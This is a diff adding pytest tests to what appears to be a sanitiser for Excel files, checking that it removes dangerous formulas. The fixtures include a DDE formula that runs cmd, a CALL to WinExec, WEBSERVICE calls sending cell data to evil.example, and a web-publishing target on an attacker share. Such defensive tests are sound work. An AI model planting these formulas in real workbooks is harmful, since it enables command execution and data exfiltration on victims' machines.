@@ -782,3 +782,151 @@ def test_references_under_deep_nesting_are_cleaned_up_quickly(tmp_path: Path) ->
     assert result.outcome == "rebuilt", result
     assert b'r:id="rIdE"' not in member(dest, "word/document.xml")
     assert took < 15, took  # (about 1 s; it was quadratic: minutes)
+
+
+@pytest.mark.parametrize(
+    ("formula", "switch"),
+    [
+        ("SUM('a\"b'!A1,cmd|' /c calc\"'!A0)", "dynamic_data_exchange"),
+        ('\'a"b\'!A1&amp;_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)', "external_hyperlinks"),
+        ('\'a"b\'!A1&amp;CALL("Kernel32","WinExec","JCJ","calc",0)', "macros"),
+        ("SUM('a\"b!A1)", "dynamic_data_exchange"),  # (a quote that closes nothing)
+    ],
+    ids=["dde", "webservice", "call", "unclosed"],
+)
+def test_a_quote_in_a_sheet_name_hides_no_call(tmp_path: Path, formula: str, switch: str) -> None:
+    """A '"' in a quoted sheet name opened a string for the formula check, which hid
+    the DDE reference, WEBSERVICE or CALL after it: delivered unmodified (LibreOffice
+    reads the WEBSERVICE call and the sheet reference)."""
+    path = _write(tmp_path, "in.xlsx", _xlsx_formula(formula))
+    assert b"<f>" in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
+    result, dest = disarm(path, tmp_path, switches("sanitise"))
+    assert result.outcome == "rebuilt", result
+    assert b"<f>" not in zipfile.ZipFile(dest).read("xl/worksheets/sheet1.xml")
+    assert any(a.switch == switch for a in result.actions), result.actions
+
+
+def test_formulas_with_quoted_sheet_names_and_strings_are_kept(tmp_path: Path) -> None:
+    formula = "SUM('it''s \"x\"'!A1)&amp;\"a\"\"b|c\"&amp;'x|y'!B2"
+    path = _write(tmp_path, "in.xlsx", _xlsx_formula(formula))
+    result, dest = disarm(path, tmp_path, switches("sanitise"))
+    assert result.outcome in ("rebuilt", "unmodified"), result
+    out = dest if result.outcome == "rebuilt" else path
+    assert b"<f>" in zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")
+    assert not any(a.switch == "dynamic_data_exchange" for a in result.actions)
+
+
+def _xlsx_with_table_and_chart() -> bytes:
+    import openpyxl
+    from openpyxl.chart import BarChart, Reference
+    from openpyxl.worksheet.table import Table
+
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.title = "Data"
+    for row in (("name", "value"), ("a", 1), ("b", 2)):
+        ws.append(row)
+    ws.add_table(Table(displayName="T", ref="A1:B3"))
+    chart = BarChart()
+    chart.add_data(Reference(ws, min_col=2, min_row=1, max_row=3), titles_from_data=True)
+    ws.add_chart(chart, "D2")
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue()
+
+
+_DDE_FORMULA = "cmd|&apos; /c calc&apos;!A0"
+
+
+@pytest.mark.parametrize("where", ["table-column", "chart-series", "web-publishing"])
+def test_formulas_outside_cells_are_judged(tmp_path: Path, where: str) -> None:
+    """A table column's formula, a chart series reference and a sheet's web
+    publishing destination were never read: DDE and a share to write to passed."""
+    base = _xlsx_with_table_and_chart()
+    parts = zipfile.ZipFile(io.BytesIO(base)).namelist()
+    table = next(n for n in parts if n.startswith("xl/tables/"))
+    chart = next(n for n in parts if n.startswith("xl/charts/"))
+    if where == "table-column":
+        change = {
+            table: lambda x: x.replace(
+                b'name="value"/>',
+                f'name="value"><calculatedColumnFormula>{_DDE_FORMULA}'
+                f"</calculatedColumnFormula></tableColumn>".encode(),
+            )
+        }
+        part, gone = table, b"calculatedColumnFormula"
+    elif where == "chart-series":
+        dde = _DDE_FORMULA.encode()
+        change = {chart: lambda x: re.sub(rb"(<(?:c:)?f>)[^<]*<", rb"\1" + dde + b"<", x)}
+        part, gone = chart, b"calc"
+    else:
+        item = (
+            '<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" '
+            'destinationFile="\\\\evil\\share\\leak.htm" autoRepublish="1"/></webPublishItems>'
+        )
+        change = {
+            "xl/worksheets/sheet1.xml": lambda x: x.replace(
+                b"<tableParts", item.encode() + b"<tableParts", 1
+            )
+        }
+        part, gone = "xl/worksheets/sheet1.xml", b"destinationFile"
+    data = rezip(base, change)
+    assert gone in zipfile.ZipFile(io.BytesIO(data)).read(part)
+    path = _write(tmp_path, "book.xlsx", data)
+    result, dest = disarm(path, tmp_path, switches("sanitise"))
+    assert result.outcome == "rebuilt", result
+    assert gone not in member(dest, part)
+    assert_consistent(dest)
+    import openpyxl
+
+    openpyxl.load_workbook(dest)  # (still a workbook)
+    if where == "chart-series":
+        # the series keeps the values it cached, as literals
+        assert b"numLit" in member(dest, part) and b"numRef" not in member(dest, part)
+
+
+def test_defined_names_are_judged_in_linear_time(tmp_path: Path) -> None:
+    """80,000 defined names calling WEBSERVICE took 25.7 s to remove (lxml counted
+    the names left after each removal)."""
+    import time
+
+    import openpyxl
+
+    wb = openpyxl.Workbook()
+    buf = io.BytesIO()
+    wb.save(buf)
+    names = "".join(
+        f'<definedName name="n{i}">_xlfn.WEBSERVICE("http://x.example/{i}")</definedName>'
+        for i in range(40_000)
+    )
+    data = rezip(
+        buf.getvalue(),
+        {
+            "xl/workbook.xml": lambda x: re.sub(
+                rb"(</sheets>)", rb"\1<definedNames>" + names.encode() + b"</definedNames>", x
+            )
+        },
+    )
+    path = _write(tmp_path, "names.xlsx", data)
+    started = time.perf_counter()
+    limits = {"max_file_size": 50 * 2**20, "max_ratio": 10_000}
+    result, dest = disarm(path, tmp_path, switches("sanitise"), limits)
+    took = time.perf_counter() - started
+    assert result.outcome == "rebuilt", result
+    assert b"WEBSERVICE" not in member(dest, "xl/workbook.xml")
+    assert took < 4, took  # (about 0.5 s; 6.5 s before)
+
+
+_SUPERSCRIPT_TAB = 'activeTab="\u00b2"'.encode()
+
+
+def test_a_superscript_digit_in_a_sheet_index_is_no_number(tmp_path: Path) -> None:
+    """str.isdigit() takes "²" and int() refuses it: the engine failed."""
+    path = _write(tmp_path, "in.xlsm", build_xlsx(True))
+    data = rezip(
+        path.read_bytes(),
+        {"xl/workbook.xml": lambda x: x.replace(b'activeTab="0"', _SUPERSCRIPT_TAB, 1)},
+    )
+    path = _write(tmp_path, "in.xlsm", data)
+    result, _ = disarm(path, tmp_path, switches("sanitise"))
+    assert result.outcome == "rebuilt", result
